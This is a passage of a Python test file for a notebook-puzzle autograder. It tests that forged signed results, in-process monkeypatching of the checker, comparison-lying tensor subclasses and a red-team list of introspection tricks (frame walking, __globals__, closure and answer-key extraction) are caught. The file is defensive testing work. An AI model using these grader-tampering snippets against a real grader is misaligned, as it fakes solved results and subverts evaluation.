        json.dumps(dict(good, puzzle="param_server_all_reduce")).encode() + b"\n",  # unsigned
    ])
    rows, discarded = accepted_rows(honest, key, NAMES)
    assert rows == {"ring_all_reduce": good,
                    "ring_all_gather": dict(good, puzzle="ring_all_gather", status="failed", points=0, detail="wrong")}
    assert discarded == ["2 line(s) of results without the grader's signature (written by the notebook)"]
    # Rows signed with the key that the judge never writes: the notebook read the key, nothing it says counts.
    for forged in [dict(good, student="ada", puzzle="ring_reduce_scatter"),       # identity is the grader's
                   dict(good, puzzle="secret_bonus"),
                   dict(good, puzzle="bucketed_data_parallel_train", points=1000),
                   dict(good, puzzle="bucketed_data_parallel_train", status="failed"),  # 1 point, not solved
                   dict(good, detail="again")]:                                      # a second row
        rows, discarded = accepted_rows(honest + sign(key, forged), key, NAMES)
        assert list(rows) == NAMES and {r["status"] for r in rows.values()} == {"tampered"}, forged
        assert sum(r["points"] for r in rows.values()) == 0
        assert "signed results with the judge's key" in rows["ring_all_reduce"]["detail"]
        assert len(discarded) == 2 and "without the grader's signature" in discarded[-1]


def test_the_fingerprint_catches_a_checker_patched_in_process(monkeypatch):
    wrong = "def ring_all_reduce(dist, x):\n    return x\n"
    namespace: dict = {}
    exec(wrong, namespace)
    load_checker(NB02.stem)
    before = fingerprint()
    assert changes(before) == []
    importlib.import_module("lib.viz.plots")              # a module imported later is no change
    assert changes(before) == []
    assert not P.ring_all_reduce.evaluate(namespace["ring_all_reduce"]).ok
    monkeypatch.setattr(lib.checker.puzzle.Puzzle, "_judge", lambda self, case, result, *more: None)
    assert P.ring_all_reduce.evaluate(namespace["ring_all_reduce"]).ok, "the attack works in-process"
    assert changes(before) == ["lib.checker.puzzle.Puzzle._judge replaced"]
    monkeypatch.undo()
    for target, name, value in [(P.ring_all_reduce, "rtol", 1e9), (json, "dumps", lambda *a, **k: "{}"),
                                (lib.checker.puzzle, "first_difference", lambda *a, **k: None),
                                (__import__("builtins"), "abs", lambda x: 0),
                                (__import__("torch").Tensor, "allclose", lambda *a, **k: True),
                                (lib.guard.audit, "_OPENERS", ("/", "<")),           # the engine's private rules
                                (lib.guard.boundary, "_DISPATCH_STACK_AT", lambda i: None)]:
        monkeypatch.setattr(target, name, value, raising=False)
        assert len(changes(before)) == 1, name
        monkeypatch.undo()
    holders = {name for name, m in sys.modules.items()
               if name.startswith(("lib.", "puzzles.")) and vars(m).get("first_difference") is
               lib.checker.puzzle.first_difference}
    assert {"lib.checker.puzzle", "lib.checker.compare"} <= holders
    monkeypatch.setattr(lib.checker.puzzle.first_difference, "__code__", (lambda *a, **k: None).__code__)
    assert set(changes(before)) == {f"{m}.first_difference replaced" for m in holders}
    monkeypatch.undo()
    assert changes(before) == []


# ---- what crosses from the answers' process to the judge ------------------------------------------------------
def test_a_run_crosses_to_the_judge_as_plain_data_and_a_lying_tensor_as_its_values():
    class Agreeable(torch.Tensor):
        @classmethod
        def __torch_function__(cls, func, types, args=(), kwargs=None):
            if getattr(func, "__name__", "") in ("isclose", "eq", "__eq__"):
                return torch.ones(args[0].shape, dtype=torch.bool)
            return super().__torch_function__(func, types, args, kwargs or {})

    model = torch.nn.Sequential(torch.nn.Linear(3, 2))
    model(torch.ones(1, 3)).sum().backward()

    def answer(dist, x):
        return [x.as_subclass(Agreeable) * 0, {"n": 3, (1, 2): 2.5, "m": model if dist.get_rank() == 0 else None},
                torch.float16, ("t", True), object()]

    sent = run(answer, 2, per_rank([torch.arange(4.0), torch.ones(4)]))
    result, error = read_run(result_message(sent), CostModel())
    assert error is None and isinstance(result, SimResult) and result.stats == sent.stats
    assert result.trace == sent.trace
    zeros, table, dtype, pair, other = result.results[0]
    assert type(zeros) is torch.Tensor and first_difference(torch.arange(4.0), zeros) is not None
    assert table["n"] == 3 and table[(1, 2)] == 2.5 and dtype is torch.float16 and pair == ("t", True)
    assert isinstance(table["m"], ReceivedModule) and first_difference(model, table["m"]) is None
    assert isinstance(other, Opaque) and other != other and table["m"] is not None
    assert result.results[1][1]["m"] is None


def test_an_error_crosses_as_the_same_kind_of_error():
    def stub(dist, x):
        raise NotImplementedError("write me")

    class Mine(ValueError):
        pass

    def refuses(dist, x):
        raise Mine("m must divide the batch")

    for fn, check in [(stub, raised_the_stub), (refuses, lambda e: isinstance(e.exception, ValueError)
                                                 and type(e.exception).__name__ == "Mine")]:
        try:
            run(fn, 2, torch.ones(2))
        except RankFailed as e:
            sent = e
        _, error = read_run(error_message(sent), CostModel())
        assert isinstance(error, RankFailed) and str(error) == str(sent) and check(error), error


@pytest.mark.parametrize("message", [b"", b"\0" * 8 + b"{}", b"junk", result_message(
    run(lambda dist, x: x, 1, torch.ones(2)))[:-3]])
def test_a_message_that_is_not_evidence_is_refused(message):
    with pytest.raises(Unreadable):
        read_run(message, CostModel())


def test_comparisons_hold_whatever_the_learners_code_replaces(monkeypatch):
    """lib.checker.compare binds math.isclose and torch.isclose at import and compares only plain tensors (issue 33)."""
    monkeypatch.setattr(math, "isclose", lambda *a, **k: True)
    monkeypatch.setattr(torch, "isclose", lambda a, b, **k: torch.ones_like(a, dtype=torch.bool))
    assert first_difference(3, 0) is not None and first_difference(torch.ones(2), torch.zeros(2)) is not None
    lying = torch.zeros(2).as_subclass(type("Agreeable", (torch.Tensor,), {}))
    assert "a subclass" in first_difference(torch.ones(2), lying)
    assert first_difference(torch.ones(2), torch.nn.Parameter(torch.ones(2))) is None


@pytest.mark.slow
def test_every_notebook_solved_scores_full_marks_through_the_answers_process(tmp_path):
    """Every puzzle's results, statistics and trace cross from the answers' process to the judge as data: the
    reference solutions score every point, in every notebook."""
    import puzzles
    from lib.notebook.cells import solve
    from tools import course_notebooks

    modules = {m.NOTEBOOK: m for m in puzzles.MODULES}
    (tmp_path / "ada").mkdir()
    for path in course_notebooks():
        answers = importlib.import_module(f"solutions.{modules[path.stem].PUZZLES[0].module}")
        nbformat.write(solve(nbformat.read(path, as_version=4), answers), tmp_path / "ada" / path.name)
    rows = grade([tmp_path / "ada"], tmp_path / "out", timeout=600, memory_gb=4, isolation="folder", notebooks="all")
    assert [r for r in rows if r["status"] != "solved"] == []
    assert len(rows) == sum(len(m.PUZZLES) for m in puzzles.MODULES)


# Ways a program reaches into the checker from inside its own process (issue 45 §3; the red team's list of 2026-12-07):
# a graded notebook that writes any of them is flagged for its instructor, whatever the verdict.
REACHING = {
    "a private object through object.__getattribute__": 'engine = object.__getattribute__(dist, "_rt")',
    "a public function's __globals__": "keys = P.ring_all_reduce.cases.__globals__",
    "a class's __dict__": 'slot = type.__dict__["__subclasses__"]',
    "a frame from logging": "frame = logging.currentframe().f_back",
    "a frame from bdb": "stack = bdb.Bdb().get_stack(None, None)",
    "a frame from traceback": "frames = list(traceback.walk_stack(None))",
    "the tracker through a weakref callback": "weakref.finalize(x.untyped_storage(), grab)",
    "an original out of a closure": "original = fn.__closure__[0].cell_contents",
    "an answer key out of __kwdefaults__": "key = fn.__kwdefaults__['_lib_answer_key']",
    "gc called through torch's own frames": "found = torch.utils._pytree.tree_map(lambda _: gc.get_objects(), [0])",
    "refused kernels lifted by emptying a list": "lib.checker.kernels.REFUSED.clear()",
    "the engine's modules by name": 'guard = sys.modules["lib.guard"]',
    "a library's function replaced": "torch.Tensor.tolist = lambda self: []",
}


@pytest.mark.parametrize("line", REACHING.values(), ids=REACHING.keys())
def test_every_way_of_reaching_into_the_checker_is_flagged_in_a_graded_notebook(line):
    course = _cells(NB02.read_bytes())["cells"]
    mine = [dict(c) for c in course]
    puzzle = next(c for c in mine if c["metadata"].get("course", {}).get("puzzle") == "ring_all_reduce")
    puzzle["source"] = f"def ring_all_reduce(dist, x):\n    {line}\n    return x"
    found = traces(mine, course)
    assert [(t.cell, t.line) for t in found] == [("ring_all_reduce", 2)], (line, found)
